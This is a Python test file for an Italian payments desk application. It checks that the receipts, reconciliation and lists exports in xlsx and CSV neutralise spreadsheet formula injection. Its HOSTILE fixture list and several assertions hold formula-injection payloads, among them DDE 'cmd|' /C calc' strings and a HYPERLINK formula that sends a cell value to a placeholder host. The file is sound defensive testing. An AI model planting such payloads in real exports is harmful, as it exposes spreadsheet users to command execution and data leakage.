"""No cell of any export can start a formula in Excel or LibreOffice (issue 14): the receipts xlsx,
the reconciliation xlsx and MyPivot-style CSV, the lists xlsx. Each export is opened as a person's
spreadsheet would open it (openpyxl for xlsx, the csv module for CSV) and every cell is checked with
the rule written out here, independently of the code under test."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

from openpyxl import load_workbook

from mypay_desk.domain.debts import DebtRecord
from mypay_desk.formats import receipt_export as rx

CF = "01199250158"
DEBTOR_CF = "RSSMRA85T10A562S"
# What the applications read as a formula: these first characters, also after blanks they trim.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Clicca")', "+39 02 1234567", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\n=1+1", "\r@A1", "   =1+1", "\u00a0=1+1"]


def looks_like_formula(text: str) -> bool:
    head = text.lstrip(" \u00a0")
    if not head.startswith(TRIGGERS):
        return False
    try:
        float(head.replace(",", "."))
        return False  # a plain signed number is not a formula
    except ValueError:
        return True


def xlsx_cells(path):
    """Every cell of every sheet, and the sheets' raw XML (no <f> element may appear)."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def check_xlsx(path, expected_texts):
    seen = set()
    for cell in xlsx_cells(path):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            seen.add(cell.value)
            if looks_like_formula(cell.value):
                assert cell.quotePrefix, (cell.coordinate, cell.value)  # shown as text, stays text when edited
    # the values come back as they were (the quote prefix is a style, not part of the text)
    assert set(expected_texts) <= seen, set(expected_texts) - seen


def test_receipts_xlsx_export(workspace, ente, tmp_path):
    rows = [rx.ReceiptRow(iuf="EXP1", numRigaFlusso=str(i), codIud=f"IUD{i}", codIuv=f"01000000000000{i:03d}",
                          identificativoDominio=CF, identificativoMessaggioRicevuta=f"MSG{i}",
                          dataOraMessaggioRicevuta="2025-03-01T09:00:00", anagraficaPagatore=text,
                          denominazioneAttestante="@PSP" if i == 0 else "Banca",
                          causaleVersamento=HOSTILE[-1 - i], codiceEsitoPagamento="0", importoTotalePagato="10.00",
                          singoloImportoPagato="10.00", esitoSingoloPagamento="ESEGUITO",
                          dataEsitoSingoloPagamento="2025-03-01", identificativoUnivocoRiscoss=f"IUR{i}",
                          tipoDovuto="TARI", row_number=i + 2, amount_cents=1000, total_paid_cents=1000,
                          outcome_date=date(2025, 3, 1), receipt_datetime=datetime(2025, 3, 1, 9))
            for i, text in enumerate(HOSTILE)]
    workspace.receipts.import_rows(rows, export_name="exp")
    out = tmp_path / "pagamenti.xlsx"
    assert workspace.receipts.export_xlsx(None, out) == len(HOSTILE)
    check_xlsx(out, [t for t in HOSTILE if "\r" not in t])  # (a lone CR is normalised by XML)


def test_lists_xlsx_export_and_re_import(workspace, ente, tmp_path):
    lists = workspace.lists
    lists.create_list("L", "TARI")
    records = [DebtRecord(iud=f"T-{i}", debtor_type="F", debtor_code=DEBTOR_CF, debtor_name=text,
                          causale=HOSTILE[-1 - i], amount_cents=1000 + i, due_date=date(2026, 6, 30),
                          debt_type="TARI", collection_data="9/0101108TS/")
               for i, text in enumerate(HOSTILE)]
    lists.add_debts("L", records)
    stored = lists.get_debts("L")
    out = lists.export_xlsx("L", tmp_path / "l.xlsx")
    check_xlsx(out, [d.debtor_name for d in stored] + [d.causale for d in stored])
    assert sum(looks_like_formula(d.debtor_name) for d in stored) >= 4


def test_reconciliation_csv_and_xlsx_exports(workspace, ente, tmp_path):
    rec = workspace.reconciliation
    lines = ["Data contabile;Importo;Causale;Ordinante"]
    lines += [f"1{i}/01/2024;1{i},00;\"{c}\";\"{p}\"" for i, (c, p) in
              enumerate(zip(HOSTILE, reversed(HOSTILE), strict=True))]
    bank = tmp_path / "banca.csv"
    bank.write_text("\n".join(x.replace("\r", " ").replace("\n=", " =") for x in lines) + "\n", encoding="utf-8")
    assert rec.import_file(bank).movements_new == len(HOSTILE)
    rec.run(as_of=date(2024, 3, 1))
    # the MyPivot-style CSV: fields that could start a formula carry a leading apostrophe
    n = rec.export(tmp_path / "r.csv")
    assert n >= len(HOSTILE)
    text = (tmp_path / "r.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text), delimiter=";", escapechar="\\", doublequote=False))
    fields = [f for r in rows for f in r]
    assert not [f for f in fields if looks_like_formula(f)]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in fields
    assert "10.00" in fields  # amounts stay plain numbers
    # the xlsx: string cells with the quote prefix, values unchanged
    rec.export(tmp_path / "r.xlsx")
    check_xlsx(tmp_path / "r.xlsx", ["@SUM(1+1)*cmd|' /C calc'!A0", "+39 02 1234567"])


def test_csv_rule_leaves_numbers_alone():
    from mypay_desk.formats.safe_cells import csv_text, starts_formula

    assert csv_text("-12.50") == "-12.50" and csv_text("+3") == "+3" and csv_text(12) == 12
    assert csv_text("=1+1") == "'=1+1" and csv_text(" @x") == "' @x" and csv_text("\t-1") == "'\t-1"
    assert not starts_formula("") and not starts_formula("Rossi") and starts_formula("\u00a0=1")
